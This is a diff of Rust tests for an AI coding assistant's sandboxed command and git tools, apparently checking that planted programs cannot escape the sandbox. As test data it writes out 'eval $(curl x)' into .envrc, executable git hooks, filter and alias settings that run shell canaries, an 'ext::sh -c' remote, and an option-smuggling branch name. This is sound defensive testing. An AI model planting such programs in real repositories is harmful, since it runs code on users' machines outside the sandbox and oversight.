@@ -646,9 +646,10 @@ async fn run_command_kills_trees_caps_output_refuses_services_and_confines_write
     );
 }
 
-/// What a command leaves where git outside the sandbox would read programs is held back and
-/// told, and a new configuration file is named — in the result the model reads (and so the
-/// transcript the person sees) — while its ordinary work stays.
+/// A command cannot write a git directory (git's writes are the `git` tool's, and the result says
+/// so); what it leaves in a repository it makes, where git outside the sandbox would read
+/// programs, is held back and told; a new configuration file is named — in the result the model
+/// reads (and so the transcript the person sees) — while its ordinary work stays.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_command_cannot_leave_a_program_for_git_and_new_configuration_is_named() {
     let (h, _yes) = setup();
@@ -661,22 +662,27 @@ async fn a_command_cannot_leave_a_program_for_git_and_new_configuration_is_named
     let out = call(
         &h,
         "run_command",
-        json!({"command": "printf /tmp/elsewhere > .git/commondir; echo 'eval $(curl x)' > .envrc; echo ok > plain.txt"}),
+        json!({"command": "printf /tmp/elsewhere > .git/commondir; mkdir made && git -C made init -q && printf 'touch x' > made/.git/hooks/post-checkout; echo 'eval $(curl x)' > .envrc; echo ok > plain.txt"}),
     )
     .await;
     let text = out.result.as_ref().unwrap().text_content();
     assert!(
-        text.contains("held back .git/commondir") && text.contains("created .envrc"),
+        text.contains("Read-only file system") && text.contains("use the git tool"),
+        "{text}"
+    );
+    assert!(
+        text.contains("held back made/.git/hooks/post-checkout") && text.contains("created .envrc"),
         "{text}"
     );
     assert!(!h.workspace.join(".git/commondir").exists());
+    assert!(!h.workspace.join("made/.git/hooks/post-checkout").exists());
     assert!(h.workspace.join("plain.txt").exists() && h.workspace.join(".envrc").exists());
     let status = std::process::Command::new("git")
         .args(["status", "--porcelain"])
         .current_dir(&h.workspace)
         .output()
         .unwrap();
-    assert!(status.status.success(), "git reads its own folder again");
+    assert!(status.status.success(), "git reads its own folder");
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -934,4 +940,232 @@ async fn accept_edits_mode_writes_at_once_and_still_rolls_back() {
             .is_ok()
     );
     assert_eq!(std::fs::read_to_string(&file).unwrap(), "inside\n");
+}
+
+/// Every setting git documents (`git help --config`), set in the repository to a program: the
+/// `git` tool's add, commit and switch never run it (the person's git runs outside the sandbox,
+/// with the repository's programs switched off and no hooks), and the work is done. Generated:
+/// a sample of the keys per run, plus the ones known to run on these actions.
+#[test]
+fn the_git_tool_runs_none_of_the_repositorys_programs() {
+    use proptest::prelude::*;
+    let out = std::process::Command::new("git")
+        .args(["help", "--config"])
+        .output()
+        .expect("git is installed");
+    let keys: Vec<String> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|k| k.trim().replace(['<', '>'], "").replace('*', "x"))
+        .filter(|k| k.contains('.') && !k.contains(' '))
+        .collect();
+    assert!(keys.len() > 500, "git listed only {} keys", keys.len());
+    let known = [
+        "filter.x.clean",
+        "filter.x.process",
+        "core.fsmonitor",
+        "core.pager",
+        "diff.external",
+        "core.hooksPath",
+    ];
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let (h, _yes) = setup();
+    // The plant is live: the person's git run plainly does run it.
+    let control = h.workspace.join("control");
+    std::fs::create_dir_all(&control).unwrap();
+    let plain = |args: &[&str]| {
+        let git = std::process::Command::new("git")
+            .args(args)
+            .current_dir(&control)
+            .output();
+        assert!(git.unwrap().status.success(), "{args:?}");
+    };
+    plain(&["init", "-q"]);
+    let ran = control.join("ran");
+    plain(&[
+        "config",
+        "filter.x.clean",
+        &format!("sh -c 'touch {}; cat' --", ran.display()),
+    ]);
+    std::fs::write(control.join(".gitattributes"), "* filter=x\n").unwrap();
+    plain(&["add", ".gitattributes"]);
+    assert!(ran.exists(), "the control's planted filter did not run");
+    let case = std::sync::atomic::AtomicUsize::new(0);
+    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig::with_cases(40));
+    let strategy = prop_oneof![
+        proptest::sample::select(known.map(String::from).to_vec()),
+        proptest::sample::select(keys),
+    ];
+    runner
+        .run(&strategy, |key| {
+            let n = case.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            let repo = h.workspace.join(format!("repo{n}"));
+            std::fs::create_dir_all(repo.join("hooks")).unwrap();
+            let git = |args: &[&str]| {
+                std::process::Command::new("git")
+                    .args(args)
+                    .current_dir(&repo)
+                    .output()
+                    .unwrap()
+            };
+            git(&["init", "-q", "-b", "main"]);
+            git(&["config", "user.name", "t"]);
+            git(&["config", "user.email", "t@x"]);
+            let canary = repo.join("ran");
+            let planted = format!("sh -c 'touch {}; cat' --", canary.display());
+            let value = if key.starts_with("alias.") {
+                format!("!{planted}")
+            } else {
+                planted.clone()
+            };
+            let value = if key.eq_ignore_ascii_case("core.hooksPath") {
+                "hooks".to_string()
+            } else {
+                value
+            };
+            prop_assume!(git(&["config", &key, &value]).status.success());
+            for hook in [
+                "pre-commit",
+                "commit-msg",
+                "post-commit",
+                "post-checkout",
+                "reference-transaction",
+            ] {
+                let path = repo.join("hooks").join(hook);
+                std::fs::write(&path, format!("#!/bin/sh\n{planted}\n")).unwrap();
+                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+                std::fs::copy(&path, repo.join(".git/hooks").join(hook)).unwrap();
+            }
+            std::fs::write(repo.join(".gitattributes"), "* filter=x diff=x merge=x\n").unwrap();
+            std::fs::write(repo.join("a.txt"), "a\n").unwrap();
+            let cwd = repo.display().to_string();
+            let steps = [
+                json!({"action": "add", "paths": ["a.txt", ".gitattributes"], "cwd": cwd}),
+                json!({"action": "commit", "message": "one", "cwd": cwd}),
+                json!({"action": "switch", "branch": "side", "create": true, "cwd": cwd}),
+            ];
+            for args in steps {
+                let out = rt.block_on(call(&h, "git", args.clone()));
+                prop_assert!(!canary.exists(), "{key}: the planted program ran at {args}");
+                // A setting git cannot read as given (a program where a number belongs) stops
+                // the action; it never runs what it names. The known program keys must work.
+                if out.result.is_err() && !known.contains(&key.as_str()) {
+                    return Ok(());
+                }
+                prop_assert!(out.result.is_ok(), "{key}: {args}: {:?}", out.result);
+            }
+            let log = git(&["-c", "core.fsmonitor=false", "log", "--oneline", "-1"]);
+            prop_assert!(
+                String::from_utf8_lossy(&log.stdout).contains("one"),
+                "{key}: no commit"
+            );
+            Ok(())
+        })
+        .unwrap();
+}
+
+/// The review shows where the git tool reaches, resolved from the repository: its top folder, a
+/// remote that is a folder (written when pushing, read when fetching), and refuses a remote that
+/// is a program; names that could be read as options are refused.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_git_tool_pushes_to_what_the_remote_resolves_to_and_refuses_programs() {
+    let (h, _yes) = setup();
+    let remote = h.dir.path().join("outside/remote.git");
+    let git = |dir: &Path, args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .args(args)
+            .current_dir(dir)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    git(
+        h.dir.path(),
+        &[
+            "init",
+            "-q",
+            "--bare",
+            "-b",
+            "main",
+            &remote.display().to_string(),
+        ],
+    );
+    let ws = &h.workspace;
+    git(ws, &["init", "-q", "-b", "main"]);
+    git(ws, &["config", "user.name", "t"]);
+    git(ws, &["config", "user.email", "t@x"]);
+    git(
+        ws,
+        &["remote", "add", "origin", &remote.display().to_string()],
+    );
+    git(
+        ws,
+        &[
+            "remote",
+            "add",
+            "evil",
+            "ext::sh -c touch% /tmp/cowork-git-ext-canary",
+        ],
+    );
+    let add = call(&h, "git", json!({"action": "add", "paths": ["inside.txt"]})).await;
+    add.result.unwrap();
+    call(&h, "git", json!({"action": "commit", "message": "first"}))
+        .await
+        .result
+        .unwrap();
+    let push = json!({"action": "push", "branch": "main"});
+    let shown = h.scheduler.explain("git", &push, "conv", None).unwrap();
+    assert_eq!(
+        shown.effects,
+        [cowork_contract::Effect::FsWrite {
+            path: remote.display().to_string()
+        }],
+        "a push writes the remote's folder, and only that"
+    );
+    // Outside the workspace: the person's rule names the folder first.
+    let err = call(&h, "git", push.clone()).await.result.unwrap_err();
+    assert!(
+        err.to_string().contains("add an allow rule like `git("),
+        "{err}"
+    );
+    h.scheduler
+        .policy()
+        .add_rule(
+            cowork_core::Action::Allow,
+            &format!("git({})", remote.display()),
+            cowork_core::RuleSource::User,
+        )
+        .unwrap();
+    call(&h, "git", push).await.result.unwrap();
+    git(&remote, &["rev-parse", "main"]);
+    let err = call(&h, "git", json!({"action": "fetch", "remote": "evil"}))
+        .await
+        .result
+        .unwrap_err();
+    assert!(
+        matches!(err, ToolError::SecurityViolation { .. }),
+        "{err:?}"
+    );
+    let err = call(
+        &h,
+        "git",
+        json!({"action": "switch", "branch": "--orphan=x"}),
+    )
+    .await
+    .result
+    .unwrap_err();
+    assert!(err.to_string().contains("not a branch name"), "{err}");
+    let err = call(
+        &h,
+        "git",
+        json!({"action": "fetch", "remote": "https://elsewhere.example/r"}),
+    )
+    .await
+    .result
+    .unwrap_err();
+    assert!(err.to_string().contains("no remote named"), "{err}");
+    assert!(!Path::new("/tmp/cowork-git-ext-canary").exists());
 }
